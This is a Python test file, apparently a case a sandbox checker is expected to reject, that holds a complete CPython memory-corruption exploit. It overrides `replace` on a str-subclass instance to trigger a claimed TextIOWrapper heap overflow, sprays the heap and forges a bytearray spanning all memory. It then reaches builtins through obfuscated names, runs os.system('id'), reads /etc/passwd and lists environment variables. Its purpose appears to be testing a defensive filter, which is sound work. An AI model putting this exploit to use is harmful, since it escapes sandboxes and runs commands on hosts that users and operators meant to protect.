# expect: reject memory
# line: 69
# why: round 79: vars(t).update(replace=f) gives a str subclass's instance its own replace, which TextIOWrapper.write calls and trusts: heap overflow, then id (verified under 3.11.2)
# ok03: judge_str_methods looks for str-method names as identifiers in str-family
# class bodies, attribute targets and setattr names, and skips keyword-argument
# names.  `vars(t).update(replace=swap)` (or t.__dict__.update(replace=swap)) puts an
# instance attribute `replace` on a str-subclass instance through a keyword: the
# round-77 TextIOWrapper.write(newline="\r\n") bug then takes the list swap returns as
# the text; flush sizes by len(list) and copies the items: heap overflow into a bytes
# object forged as a bytearray over all memory -> builtins -> os.system("id").
import io


class Sink:
    def __init__(self):
        self.got = []

    def write(self, b):
        self.got.append(len(b))
        return len(b)

    def flush(self):
        pass

    def writable(self):
        return True

    def readable(self):
        return False

    def seekable(self):
        return False

    closed = False


def shaped():
    xs = []
    while True:
        xs.append(b"")
        if len(xs) == 60:
            break
    del xs[32:]
    return xs


class Text(str):
    pass


def swap(old, new):
    return HOLD[0]


def w8(v):
    return v.to_bytes(8, "little")


fake = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
items = shaped()
items[0] = b"\x00" * 48 + fake
HOLD = [items]
spray = [bytes([i % 250 + 1]) * 47 for i in range(4000)]
for i in range(2001, 4000, 2):
    spray[i] = None
sink = Sink()
tw = io.TextIOWrapper(sink, encoding="utf-8", newline="\r\n")
t = Text("a\n")
vars(t).update(replace=swap)
tw.write(t)
tw.flush()
mem = None
for x in spray:
    if type(x) is bytearray:
        mem = x
print("flushed", sink.got, "forged:", type(mem).__name__)
a = id(w8) + 24
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
print("environ:", sorted(osm.environ)[:8], len(osm.environ))
